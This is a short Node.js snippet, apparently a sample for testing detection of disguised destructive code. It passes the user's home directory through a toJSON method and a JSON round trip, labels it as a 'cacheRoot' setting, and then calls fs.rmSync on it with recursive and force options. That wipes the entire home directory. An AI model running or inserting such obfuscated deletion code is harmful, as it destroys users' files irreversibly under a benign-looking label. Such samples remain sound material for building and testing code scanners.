// Deletes recursively: the home directory's path travels through a toJSON
// method and JSON.stringify/JSON.parse before reaching fs.rmSync.
'use strict';
const fs = require('fs');
const os = require('os');

const settings = {
  cacheRoot: { toJSON: () => os.homedir() },
  keep: false,
};
const saved = JSON.parse(JSON.stringify(settings));
if (!saved.keep) fs.rmSync(saved.cacheRoot, { recursive: true, force: true });
